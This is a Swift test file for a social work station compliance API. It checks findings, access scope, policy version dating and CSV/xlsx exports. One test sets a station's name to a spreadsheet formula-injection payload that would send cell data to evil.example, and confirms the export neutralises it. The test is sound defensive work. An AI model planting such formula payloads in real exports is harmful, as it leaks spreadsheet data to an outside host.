@testable import App
import Domain
import Fluent
import SQLKit
import Testing
import Vapor
import VaporTesting
import ZIPFoundation

@Suite("Compliance and policy")
struct ComplianceApiTests {
    func finding(_ res: TestingHTTPResponse, _ rule: String) throws -> [String: Any]? {
        (try res.json()["findings"] as? [[String: Any]])?.first { $0["rule_id"] as? String == rule }
    }

    /// Issue 12 §4: on PostgreSQL a station's compliance queries go as named prepared statements,
    /// planned once per connection; on both engines they find what the same queries sent as text find.
    @Test func aStationsComplianceIsTheSameWhetherPreparedOrSentAsText() async throws {
        try await withApp { world in
            // setup
            let id = world.id("station:解放路街道")
            let today = Day(Date())
            // act: all on one connection, whose prepared statements PostgreSQL lists
            let (asText, prepared, again, statements) = try await world.app.db.withConnection { db in
                let condition: SQLQueryString = "s.deleted_at IS NULL AND s.id = \(bind: id)"
                func evaluate(_ oneStation: Bool) async throws -> [Finding] {
                    try await ComplianceQueries.evaluate(where: condition, oneStation: oneStation, year: today.year, today: today,
                                                         policies: world.app.policies, on: db)[0].findings
                }
                let asText = try await evaluate(false), prepared = try await evaluate(true), again = try await evaluate(true)
                let sql = db as! any SQLDatabase
                let statements = sql.dialect.name != "postgresql" ? [] :
                    try await sql.raw("SELECT name FROM pg_prepared_statements").all().map { try $0.decode(column: "name", as: String.self) }
                return (asText, prepared, again, statements)
            }
            // check
            #expect(asText.count > 10)
            #expect(prepared == asText && again == asText)
            if (world.app.db as! any SQLDatabase).dialect.name == "postgresql" {
                #expect(statements.contains("shegong.OneStation") == PreparedStatements.enabled, "\(statements)")
            }
        }
    }

    @Test func demonstrationStationFindingsAndFixingOne() async throws {
        try await withApp { world in
            // setup
            let token = try await world.token("jiefanglu")
            let id = world.id("station:解放路街道")
            let year = Day(Date()).year
            // act
            let before = try await world.api(.GET, "/api/v1/stations/\(id)/compliance?year=\(year)", token: token)
            // check: the demo lacks the indoor plaque (P-4); supervision and training hours are met
            #expect(before.status == .ok)
            #expect(try finding(before, "P-4")?["state"] as? String == "failure")
            #expect(try finding(before, "P-4")?["measured"] as? String == "缺少：室内标牌")
            #expect(try finding(before, "T-2")?["state"] as? String == "pass")
            #expect(try finding(before, "S-4")?["state"] as? String == "pass")
            #expect(try finding(before, "P-3")?["state"] as? String == "pass")
            // each list the evaluation reads (rooms, workers with their hours, supervisors, records) arrives intact
            #expect(try finding(before, "P-2")?["measured"] as? String == "30 平方米 ÷ 3 人 = 10 平方米")
            #expect(try finding(before, "T-1")?["measured"] as? String == "赵敏")
            #expect(try finding(before, "T-2")?["measured"] as? String == "3 人均达标（最少 30 小时）")
            #expect(try finding(before, "T-3")?["measured"] as? String == "3 人均达标（最少 40 学时）")
            #expect(try finding(before, "T-5")?["measured"] as? String == "20 条记录，均完整并已确认")
            // fix it and look again
            #expect(try await world.api(.PATCH, "/api/v1/stations/\(id)", token: token, json: ["indoor_sign": true]).status == .ok)
            let after = try await world.api(.GET, "/api/v1/stations/\(id)/compliance?year=\(year)", token: token)
            #expect(try finding(after, "P-4")?["state"] as? String == "pass")
            // another street's officer, or another city's admin, is not told the station exists
            #expect(try await world.api(.GET, "/api/v1/stations/\(world.id("station:千佛山街道"))/compliance", token: token).status == .notFound)
            #expect(try await world.api(.GET, "/api/v1/stations/\(id)/compliance", token: try await world.token("outsider")).status == .notFound)
            #expect(try await world.api(.GET, "/api/v1/stations/\(UUID())/compliance", token: token).status == .notFound)
        }
    }

    /// T-5's counts come from SQL: an incomplete record, an unconfirmed attendee and a deleted record.
    @Test func supervisionRecordsAreCountedFromTheDatabase() async throws {
        try await withApp { world in
            // setup: 解放路's 20 demo records are complete and confirmed; spoil three of them
            let token = try await world.token("jiefanglu")
            let id = world.id("station:解放路街道")
            let year = Day(Date()).year
            let records = try await SupervisionRecord.query(on: world.app.db).filter(\.$station.$id == id).sort(\.$heldOn).all()
            #expect(records.count == 20)
            records[0].advice = ""
            try await records[0].save(on: world.app.db)
            let attendee = try #require(try await SupervisionAttendee.query(on: world.app.db).filter(\.$record.$id == records[1].id!).first())
            attendee.confirmedAt = nil
            try await attendee.save(on: world.app.db)
            try await records[2].delete(on: world.app.db)
            func t5() async throws -> [String: Any]? {
                try finding(try await world.api(.GET, "/api/v1/stations/\(id)/compliance?year=\(year)", token: token), "T-5")
            }
            // check: the incomplete record fails the rule, counted among the 19 left
            #expect(try await t5()?["state"] as? String == "failure")
            #expect(try await t5()?["measured"] as? String == "1/19 条记录不完整")
            // completing it leaves the unconfirmed one, a warning
            records[0].advice = "补充社区资源评估"
            try await records[0].save(on: world.app.db)
            #expect(try await t5()?["state"] as? String == "warning")
            #expect(try await t5()?["measured"] as? String == "1/19 条记录未经双方确认")
        }
    }

    @Test func matrixFiltersAndStaysInScope() async throws {
        try await withApp { world in
            let admin = try await world.token("admin")
            let all = try await world.api(.GET, "/api/v1/compliance", token: admin)
            #expect(try (all.json()["stations"] as! [[String: Any]]).count == 32)
            let p4 = try await world.api(.GET, "/api/v1/compliance?rule=P-4&state=failure&district=\(world.id("历下区"))", token: admin)
            let names = try (p4.json()["stations"] as! [[String: Any]]).map { $0["name"] as! String }
            #expect(names.contains("历下区解放路街道社会工作服务站"))
            #expect(names.allSatisfy { $0.hasPrefix("历下区") })
            let street = try await world.api(.GET, "/api/v1/compliance", token: try await world.token("jiefanglu"))
            #expect(try (street.json()["stations"] as! [[String: Any]]).map { $0["name"] as! String } == ["历下区解放路街道社会工作服务站"])
            let bad = try await world.api(.GET, "/api/v1/compliance?state=great", token: admin)
            #expect(bad.status == .badRequest)
        }
    }

    @Test func exportsAreARealWorkbookAndCSV() async throws {
        try await withApp { world in
            let browser = Browser(world)
            _ = try await browser.login("lixia")
            let xlsx = try await browser.get("/compliance/export.xlsx")
            #expect(xlsx.status == .ok)
            let archive = try Archive(data: Data(buffer: xlsx.body), accessMode: .read)
            let sheet = try #require(archive["xl/worksheets/sheet1.xml"])
            var xml = Data()
            _ = try archive.extract(sheet) { xml.append($0) }
            let text = String(decoding: xml, as: UTF8.self)
            #expect(text.contains("历下区解放路街道社会工作服务站"))
            #expect(!text.contains("市中区"), "a district officer exports only their district")
            let csv = try await browser.get("/compliance/export.csv")
            #expect(csv.body.string.contains("区县,社工站,不符合规则数,规则组,规则,状态,实际,要求,如何整改,依据"))
        }
    }

    @Test func exportsKeepAFormulaInAStationNameAsText() async throws {
        try await withApp { world in
            // setup: a station whose name a spreadsheet would run as a formula
            let name = #"=HYPERLINK("http://evil.example/?d="&A1,"点击")"#
            let admin = try await world.token("admin")
            let patch = try await world.api(.PATCH, "/api/v1/stations/\(world.id("station:解放路街道"))", token: admin, json: ["name": name])
            #expect(patch.status == .ok, "\(patch.body.string)")
            let browser = Browser(world)
            _ = try await browser.login("lixia")
            // act
            let csv = try await browser.get("/compliance/export.csv").body.string
            let xlsx = try await browser.get("/compliance/export.xlsx")
            // check: CSV (quoted because of the commas and quotes) and xlsx both start the cell with a quote
            #expect(csv.contains(#"历下区,"'=HYPERLINK(""http://evil.example/?d=""&A1,""点击"")","#), "\(csv)")
            #expect(!csv.contains(#","=HYPERLINK"#) && !csv.contains("\n=HYPERLINK"))
            let archive = try Archive(data: Data(buffer: xlsx.body), accessMode: .read)
            var xml = Data()
            _ = try archive.extract(try #require(archive["xl/worksheets/sheet1.xml"])) { xml.append($0) }
            let sheet = String(decoding: xml, as: UTF8.self)
            #expect(sheet.contains("<t>'=HYPERLINK(&quot;http://evil.example/?d=&quot;&amp;A1,&quot;点击&quot;)</t>"), "\(sheet)")
            #expect(!sheet.contains("<t>=HYPERLINK"))
            // the counts stay numeric cells
            #expect(sheet.contains(#"<c r="C2"><v>"#))
        }
    }

    @Test func formulaLeadersAreNeutralisedInTextCellsOnly() {
        for text in ["=1+1", "+8613912345678", "-2", "@SUM(A1)", "\tx", "\rx"] {
            #expect(Spreadsheet.neutralised(text) == "'" + text)
        }
        for text in ["", "a=b", "历下区", "'=quoted"] {
            #expect(Spreadsheet.neutralised(text) == text)
        }
        let csv = String(decoding: Spreadsheet(sheetName: "t", rows: [[.number(-3), .text("-3")]]).csv(), as: UTF8.self)
        #expect(csv == "\u{FEFF}-3,'-3\r\n")
    }

    @Test func parameterChangesAreVersionedByEffectiveDate() async throws {
        try await withApp { world in
            // setup: the day is mid-2026, so that 1 January 2026 is a backdated change within the year
            world.app.clock.pin(Day(year: 2026, month: 6, day: 15)!.start.addingTimeInterval(12 * 3600))
            var admin = try await world.token("admin")
            let id = world.id("station:解放路街道")
            // backdating needs a reason, stays within the current year, and never reaches before 1900-style dates
            let unexplained = try await world.api(.POST, "/api/v1/policy/versions", token: admin, json: [
                "rule_id": "S-1", "param": "minWorkers", "value": 5, "effective_from": "2026-01-01"])
            #expect(try unexplained.problemFields()["backdate_reason"]?.contains("须填写追溯理由") == true)
            for early in ["2025-12-31", "1900-01-01"] {
                let refused = try await world.api(.POST, "/api/v1/policy/versions", token: admin, json: [
                    "rule_id": "S-1", "param": "minWorkers", "value": 5, "effective_from": early, "backdate_reason": "补录"])
                #expect(try refused.problemFields()["effective_from"]?.contains("最多追溯到本年 1 月 1 日") == true, "\(early)")
            }
            // act: from 2026 a station needs five workers
            let change = try await world.api(.POST, "/api/v1/policy/versions", token: admin, json: [
                "rule_id": "S-1", "param": "minWorkers", "value": 5, "effective_from": "2026-01-01", "note": "测试：提高配备标准",
                "backdate_reason": "市局 2026 年 1 月文件，系统录入延迟",
            ])
            #expect(change.status == .created, "\(change.body.string)")
            // the policy page shows the backdated version in red with its reason
            let browser = Browser(world)
            _ = try await browser.login("admin")
            let page = try await browser.get("/policy").body.string
            #expect(page.contains(#"<li class="backdated">"#) && page.contains("市局 2026 年 1 月文件"))
            // a later change may not take effect before the version now in force
            world.app.clock.pin(Day(year: 2026, month: 7, day: 2)!.start)
            admin = try await world.token("admin")   // the clock moved past the first token's lifetime
            let second = try await world.api(.POST, "/api/v1/policy/versions", token: admin, json: [
                "rule_id": "S-1", "param": "minWorkers", "value": 5, "effective_from": "2026-07-01", "backdate_reason": "7 月 1 日起执行的通知"])
            #expect(second.status == .created, "\(second.body.string)")
            let beforeInForce = try await world.api(.POST, "/api/v1/policy/versions", token: admin, json: [
                "rule_id": "S-1", "param": "minWorkers", "value": 4, "effective_from": "2026-03-01", "backdate_reason": "改回"])
            #expect(try beforeInForce.problemFields()["effective_from"] == "生效日期不能早于现行第 2 版的生效日期 2026-07-01")
            // check: 2026 uses the new version, 2025 the one in force then
            let y2026 = try await world.api(.GET, "/api/v1/stations/\(id)/compliance?year=2026", token: admin)
            #expect(try finding(y2026, "S-1")?["required"] as? String == "不少于 5 人")
            let y2025 = try await world.api(.GET, "/api/v1/stations/\(id)/compliance?year=2025", token: admin)
            #expect(try finding(y2025, "S-1")?["required"] as? String == "不少于 3 人")
            #expect(try await AuditEvent.query(on: world.app.db).filter(\.$entityType == "policy").count() == 2)
            // refusals
            let lixia = try await world.api(.POST, "/api/v1/policy/versions", token: try await world.token("lixia"), json: [
                "rule_id": "S-1", "param": "minWorkers", "value": 4, "effective_from": "2026-01-01"])
            #expect(lixia.status == .forbidden)
            let unknown = try await world.api(.POST, "/api/v1/policy/versions", token: admin, json: [
                "rule_id": "S-2", "param": "minFullTimeCentral", "value": 4, "effective_from": "2026-01-01"])
            #expect(try unknown.problemFields()["rule_id"] == "规则 S-2 专职社工人数 不在济南市社工站政策配置中")
            let negative = try await world.api(.POST, "/api/v1/policy/versions", token: admin, json: [
                "rule_id": "S-1", "param": "minWorkers", "value": -1, "effective_from": "2026-01-01"])
            #expect(negative.status == .unprocessableEntity)
        }
    }

    @Test func wuhanUsesItsProfileAndDistrictKind() async throws {
        try await withApp { world in
            let token = try await world.token("wuhan")
            let matrix = try await world.api(.GET, "/api/v1/compliance?detail=true", token: token)
            let stations = try matrix.json()["stations"] as! [[String: Any]]
            #expect(stations.count == 2)
            let rules = Set(stations.flatMap { ($0["findings"] as! [[String: Any]]).map { $0["rule_id"] as! String } })
            #expect(rules.contains("S-2"))
            #expect(!rules.contains("P-4"), "P-4 is Jinan's")
            let central = stations.first { ($0["name"] as! String).hasPrefix("江岸区") }!
            let s2 = (central["findings"] as! [[String: Any]]).first { $0["rule_id"] as? String == "S-2" }!
            #expect(s2["required"] as? String == "中心城区专职社工不少于 3 人")
        }
    }

    @Test func aPlatformAdminEntersNextYearsCalendar() async throws {
        try await withApp { world in
            // The first year the shipped data does not cover, so the test survives the day it is entered.
            let next = try #require(try WorkingCalendar.bundled().years.keys.max()) + 1
            func january(_ year: Int, weekend: Bool) -> String {
                var d = Day(year: year, month: 1, day: 4)!
                while d.isWeekend != weekend { d = d.adding(days: 1) }
                return d.description
            }
            let platform = try await world.token("platform")
            let makeUp = january(next, weekend: true)
            let body: [String: Any] = ["year": next, "holidays": [["first": "\(next)-01-01", "last": "\(next)-01-03", "name": "元旦"]], "workdays": [makeUp]]
            #expect(try await world.api(.POST, "/api/v1/calendar", token: platform, json: body).status == .created)
            let year = try await world.api(.GET, "/api/v1/calendar/\(next)", token: try await world.token("admin"))
            #expect((try year.json()["workdays"] as? [String]) == [makeUp])
            #expect(try await world.api(.POST, "/api/v1/calendar", token: platform, json: body).status == .conflict)
            let weekdayDate = january(next + 1, weekend: false)
            let weekday: [String: Any] = ["year": next + 1, "holidays": [["first": "\(next + 1)-01-01", "last": "\(next + 1)-01-01", "name": "元旦"]], "workdays": [weekdayDate]]
            let bad = try await world.api(.POST, "/api/v1/calendar", token: platform, json: weekday)
            // an error about a make-up day names the make-up-day field
            #expect(try bad.problemFields()["workdays"] == "调休上班日 \(weekdayDate) 不是周末")
            #expect(try await world.api(.POST, "/api/v1/calendar", token: try await world.token("lixia"), json: weekday).status == .forbidden)
            #expect(try await world.api(.POST, "/api/v1/calendar", token: try await world.token("admin"), json: weekday).status == .forbidden)
        }
    }
}
